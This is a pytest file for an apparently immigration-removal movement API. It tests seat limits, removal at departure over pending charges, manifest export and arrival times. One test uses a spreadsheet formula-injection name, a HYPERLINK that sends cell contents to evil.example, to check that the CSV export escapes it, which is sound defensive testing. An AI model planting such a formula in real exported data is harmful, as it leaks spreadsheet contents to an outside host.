"""A full movement through the API: its seat limit, re-assessment at departure and its
manifest, exported as CSV and JSON."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.entrypoints.api.removals import TODAY, ok
from tests.entrypoints.api.test_transitions import FACTS, MEXICAN, advance_to_approved

Clients = Callable[[str], TestClient]


@dataclass
class Trip:
    """A two-seat movement that left: three approved cases tried for it."""

    url: str
    cases: list[int]
    full: Any  # the answer to the third case offered
    departed: dict[str, Any]


def _approved_case(client_for: Clients, given_names: str) -> int:
    officer = client_for("us-case-officer")
    person = ok(officer.post("/api/v1/people", json={**MEXICAN, "given_names": given_names}), 201)
    body = {"person_id": person["id"], "authority": "us-mx-1976", "from_state": "US"}
    case = ok(officer.post("/api/v1/cases", json={**body, "to_state": "MX"}), 201)
    ok(officer.put(f"/api/v1/cases/{case['id']}/facts", json=FACTS))
    advance_to_approved(client_for, case["id"])
    return int(case["id"])


@pytest.fixture
def trip(client_for: Clients) -> Trip:
    """Julio and Pedro board; Ramón finds no seat; new charges against Pedro after the lock."""
    officer = client_for("us-case-officer")
    julio, pedro, ramon = (_approved_case(client_for, n) for n in ("Julio", "Pedro", "Ramón"))
    plan = {
        "authority": "us-mx-1976",
        "from_state": "US",
        "to_state": "MX",
        "seats": 2,
        "planned_departure": f"{TODAY.isoformat()}T12:00:00Z",
    }
    url = f"/api/v1/movements/{ok(officer.post('/api/v1/movements', json=plan), 201)['id']}"
    for case_id in (julio, pedro):
        ok(officer.post(f"{url}/manifest", json={"case_id": case_id}), 201)
    full = officer.post(f"{url}/manifest", json={"case_id": ramon})
    assert ok(officer.post(f"{url}/steps", json={"command": "lock"}))["removed"] == []
    ok(officer.put(f"/api/v1/cases/{pedro}/facts", json={"sentence_other_charges_pending": True}))
    departed = ok(officer.post(f"{url}/steps", json={"command": "depart"}))
    return Trip(url, [julio, pedro, ramon], full, departed)


def test_a_case_past_the_seat_limit_is_refused_and_stays_approved(
    client_for: Clients, trip: Trip
) -> None:
    assert trip.full.status_code == 409 and "full (2 seats)" in trip.full.json()["detail"]
    officer = client_for("us-case-officer")
    assert ok(officer.get(f"/api/v1/cases/{trip.cases[2]}"))["state"] == "approved"


def test_whoever_fails_reassessment_at_departure_comes_off_with_the_reason_and_the_rest_go(
    client_for: Clients, trip: Trip
) -> None:
    julio, pedro, _ = trip.cases
    assert trip.departed["state"] == "departed"
    assert [r["case_id"] for r in trip.departed["removed"]] == [pedro]
    assert "PENDING_CHARGES" in trip.departed["removed"][0]["reason"]
    officer = client_for("us-case-officer")
    states = [ok(officer.get(f"/api/v1/cases/{c}"))["state"] for c in (julio, pedro)]
    assert states == ["in_transit", "cancelled"]


def test_the_manifest_shows_who_went_and_who_came_off_and_why(
    client_for: Clients, trip: Trip
) -> None:
    manifest = ok(client_for("us-case-officer").get(trip.url))["manifest"]
    assert [(m["given_names"], m["status"]) for m in manifest] == [
        ("Julio", "aboard"),
        ("Pedro", "removed"),
    ]
    assert "PENDING_CHARGES" in manifest[1]["removed_reason"]


def test_the_manifest_exports_as_csv_with_the_rows_of_its_json(
    client_for: Clients, trip: Trip
) -> None:
    officer = client_for("us-case-officer")
    exported = officer.get(f"{trip.url}/manifest.csv")
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows == ok(officer.get(trip.url))["manifest"] and len(rows) == 2


def test_a_name_written_as_a_formula_is_plain_text_in_the_manifest_csv(
    client_for: Clients,
) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    case_id = _approved_case(client_for, formula)
    officer = client_for("us-case-officer")
    plan = {
        "authority": "us-mx-1976",
        "from_state": "US",
        "to_state": "MX",
        "seats": 1,
        "planned_departure": f"{TODAY.isoformat()}T12:00:00Z",
    }
    url = f"/api/v1/movements/{ok(officer.post('/api/v1/movements', json=plan), 201)['id']}"
    ok(officer.post(f"{url}/manifest", json={"case_id": case_id}), 201)
    [row] = csv.DictReader(io.StringIO(officer.get(f"{url}/manifest.csv").text))
    assert row["given_names"] == "'" + formula
    assert ok(officer.get(url))["manifest"][0]["given_names"] == formula  # stored unchanged


def test_a_movement_keeps_when_it_left_and_arrived(trip: Trip, client_for: Clients) -> None:
    assert trip.departed["departed_at"] is not None and trip.departed["arrived_at"] is None
    receiving = client_for("mx-case-officer")
    future = (datetime.now(UTC) + timedelta(hours=2)).isoformat()
    refused = receiving.post(f"{trip.url}/steps", json={"command": "confirm_arrival", "at": future})
    assert refused.status_code == 422 and "at" in refused.text and "future" in refused.text
    early = "2020-01-01T00:00:00+00:00"
    refused = receiving.post(f"{trip.url}/steps", json={"command": "confirm_arrival", "at": early})
    assert refused.status_code == 422 and "before the departure" in refused.text
    landed = datetime.now(UTC).replace(microsecond=0)
    arrived = ok(
        receiving.post(
            f"{trip.url}/steps", json={"command": "confirm_arrival", "at": landed.isoformat()}
        )
    )
    assert datetime.fromisoformat(arrived["arrived_at"]) == landed
    assert arrived["departed_at"] == trip.departed["departed_at"]
